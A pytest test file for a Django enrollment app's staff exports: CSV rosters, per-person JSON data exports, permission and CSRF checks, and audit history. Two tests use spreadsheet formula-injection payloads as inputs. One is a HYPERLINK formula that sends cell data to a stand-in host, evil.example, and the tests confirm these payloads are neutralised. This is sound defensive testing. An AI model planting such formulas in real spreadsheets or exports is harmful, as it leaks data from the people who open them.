"""Exports: a cohort's roster and waitlist as CSV that Excel opens safely, and everything stored about one
person as JSON. Only for staff with the export permissions."""

import csv
import io
import json
import re

import pytest
from django.test import Client
from django.urls import reverse

from enrollment import services
from enrollment.admin.exports import neutralise
from enrollment.models import ApplicationEvent, EmailNotification
from tests.signin import sign_in
from tests.staff.conftest import change_url, changelist, make_cohort, submit

pytestmark = pytest.mark.django_db


def export_url(application):
    return reverse("admin:enrollment_application_export", args=[application.pk])


def roster_url(cohort):
    return reverse("admin:enrollment_cohort_roster", args=[cohort.pk])


def read_csv(response):
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(body[1:])))


@pytest.mark.parametrize(
    "value,expected",
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Zoë O'Brien", "Zoë O'Brien"),
        (None, ""),
        (3, "3"),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_neutralised(value, expected):
    assert neutralise(value) == expected


def test_roster_csv_lists_seats_then_the_waitlist_in_order(admissions_client, emt_program):
    cohort = make_cohort(program=emt_program, capacity=2, code="EMT-2027-SPRING")
    second_seat = submit(cohort, first_name="Zoë", last_name="Zimmermann", phone="555 010 0001")
    first_seat = submit(cohort, first_name="Ana", last_name="Alvarez")
    waiting_1 = submit(cohort, first_name="Wes", last_name="Waiting")
    waiting_2 = submit(cohort, first_name="Abe", last_name="Also")
    withdrawn = submit(make_cohort(program=emt_program, capacity=1), first_name="Other")
    services.application_withdraw(application=withdrawn, notify=False)

    response = admissions_client.get(roster_url(cohort))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="roster-EMT-2027-SPRING.csv"'
    rows = read_csv(response)
    assert rows[0] == [
        "reference",
        "status",
        "waitlist position",
        "first name",
        "last name",
        "e-mail",
        "phone",
        "submitted",
        "checklist",
        "not verified",
    ]
    assert [row[0] for row in rows[1:]] == [
        first_seat.reference,
        second_seat.reference,
        waiting_1.reference,
        waiting_2.reference,
    ]
    assert rows[2][1:7] == ["Seat held", "", "Zoë", "Zimmermann", second_seat.email, "555 010 0001"]
    assert rows[3][1:3] == ["On the waitlist", "1"]
    assert rows[4][1:3] == ["On the waitlist", "2"]
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2}", rows[1][7])


def test_a_formula_in_a_name_comes_out_neutralised(admissions_client, emt_program):
    cohort = make_cohort(program=emt_program, capacity=2)
    submit(cohort, first_name='=HYPERLINK("http://evil.example/steal?d="&A1,"Click")', last_name="@Evil")
    rows = read_csv(admissions_client.get(roster_url(cohort)))
    assert rows[1][3] == '\'=HYPERLINK("http://evil.example/steal?d="&A1,"Click")'
    assert rows[1][4] == "'@Evil"


def test_the_roster_action_exports_several_cohorts_with_their_codes(admissions_client, emt_program):
    one = make_cohort(program=emt_program, capacity=1, code="EMT-ONE", starts_in=30)
    two = make_cohort(program=emt_program, capacity=1, code="EMT-TWO", starts_in=60)
    a, b = submit(one), submit(two)
    response = admissions_client.post(
        changelist("cohort"), {"action": "export_roster_csv", "_selected_action": [one.pk, two.pk]}
    )
    rows = read_csv(response)
    assert rows[0][:2] == ["cohort", "reference"]
    assert [row[:2] for row in rows[1:]] == [["EMT-ONE", a.reference], ["EMT-TWO", b.reference]]


def test_the_roster_action_for_one_cohort_gives_the_roster_columns(admissions_client, emt_program):
    cohort = make_cohort(program=emt_program, capacity=1, code="EMT-SOLO")
    submit(cohort)
    response = admissions_client.post(
        changelist("cohort"), {"action": "export_roster_csv", "_selected_action": [cohort.pk]}
    )
    assert 'filename="roster-EMT-SOLO.csv"' in response["Content-Disposition"]
    assert read_csv(response)[0][0] == "reference"


def test_only_staff_with_the_export_permission_get_rosters(client, editor, emt_program, django_user_model):
    cohort = make_cohort(program=emt_program)
    sign_in(client, editor)
    assert client.get(roster_url(cohort)).status_code == 403
    assert "roster.csv" not in client.get(changelist("cohort")).content.decode()


@pytest.fixture
def person(emt_program, officer):
    """Two applications and an enquiry from one address, with a note, history and e-mail records."""
    first = submit(
        make_cohort(program=emt_program, capacity=1), first_name="Petra", email="petra@example.net"
    )
    second = submit(
        make_cohort(program=emt_program, capacity=1), first_name="Petra", email="Petra@Example.net"
    )
    services.application_note_add(application=first, text="Prefers mornings.", by=officer)
    services.application_withdraw(application=second, notify=False, by=officer)
    EmailNotification.objects.create(
        kind="status-change", status="failed", application=first, error="SMTPException"
    )
    enquiry = services.enquiry_submit(
        name="Petra P", email="petra@example.net", message="Is there a payment plan?", notify=False
    )
    other = submit(
        make_cohort(program=emt_program, capacity=1), first_name="Someone", email="else@example.net"
    )
    return first, second, enquiry, other


def test_export_of_one_applicant_gives_everything_stored_about_them(admissions_client, person, officer):
    first, second, enquiry, other = person

    response = admissions_client.post(export_url(first))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert f'filename="applicant-data-{first.reference}.json"' in response["Content-Disposition"]
    data = json.loads(response.content)
    [exported] = data["people"]
    assert exported["email"] == "petra@example.net"
    applications = {a["reference"]: a for a in exported["applications"]}
    assert set(applications) == {first.reference, second.reference}
    record = applications[first.reference]
    for field in ("first_name", "last_name", "phone", "date_of_birth", "address_line1", "postal_code"):
        assert field in record
    assert record["cohort"] == first.cohort.code
    assert record["notes"][0]["text"] == "Prefers mornings."
    assert record["notes"][0]["author"] == "Dana Officer"
    assert record["emails"][0]["error"] == "SMTPException"
    assert any(event["kind"] == "Submitted" for event in record["history"])
    assert applications[second.reference]["status"] == "Withdrawn"
    assert [e["message"] for e in exported["enquiries"]] == ["Is there a payment plan?"]
    assert "else@example.net" not in response.content.decode()
    # The export itself is in each application's history.
    assert ApplicationEvent.objects.filter(kind="exported", actor=officer).count() == 2
    assert not other.events.filter(kind="exported").exists()


def test_export_action_on_applications_and_on_enquiries(admissions_client, person):
    first, _, enquiry, other = person
    response = admissions_client.post(
        changelist(), {"action": "export_applicant_data", "_selected_action": [first.pk, other.pk]}
    )
    data = json.loads(response.content)
    assert sorted(p["email"] for p in data["people"]) == ["else@example.net", "petra@example.net"]

    response = admissions_client.post(
        changelist("enquiry"), {"action": "export_enquirer_data", "_selected_action": [enquiry.pk]}
    )
    [exported] = json.loads(response.content)["people"]
    assert len(exported["applications"]) == 2
    assert len(exported["enquiries"]) == 1


def test_export_needs_the_export_permission(client, person, django_user_model):
    from django.contrib.auth.models import Permission

    first = person[0]
    reader = django_user_model.objects.create_user("reader", "r@staff.example.org", "x", is_staff=True)
    reader.user_permissions.add(Permission.objects.get(codename="view_application"))
    sign_in(client, reader)
    assert client.get(reverse("admin:enrollment_application_change", args=[first.pk])).status_code == 200
    assert client.get(export_url(first)).status_code == 403
    assert client.post(export_url(first)).status_code == 403
    response = client.post(changelist(), {"action": "export_applicant_data", "_selected_action": [first.pk]})
    assert "application/json" not in response.get("Content-Type", "")


def test_the_export_link_asks_for_confirmation_and_records_nothing(admissions_client, person):
    first, second, enquiry, other = person
    change_page = admissions_client.get(change_url(first)).content.decode()
    assert f'href="{export_url(first)}"' in change_page

    response = admissions_client.get(export_url(first))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response
    page = response.content.decode()
    assert first.reference in page and second.reference in page
    assert other.reference not in page
    assert str(enquiry) in page
    assert "The export is recorded, with your name, in the history of each application below." in " ".join(
        page.split()
    )
    assert '<form method="post"' in page and "csrfmiddlewaretoken" in page
    assert not ApplicationEvent.objects.filter(kind="exported").exists()


def test_the_export_needs_the_pages_csrf_token(person, officer):
    first = person[0]
    client = Client(enforce_csrf_checks=True)
    sign_in(client, officer)

    assert client.post(export_url(first)).status_code == 403

    page = client.get(export_url(first))
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.content.decode())[1]
    response = client.post(export_url(first), {"csrfmiddlewaretoken": token})
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert ApplicationEvent.objects.filter(kind="exported", application=first).count() == 1


@pytest.mark.parametrize("method", ["put", "delete", "patch"])
def test_other_methods_on_the_export_are_not_allowed(admissions_client, person, method):
    response = getattr(admissions_client, method)(export_url(person[0]))
    assert response.status_code == 405
    assert not ApplicationEvent.objects.filter(kind="exported").exists()
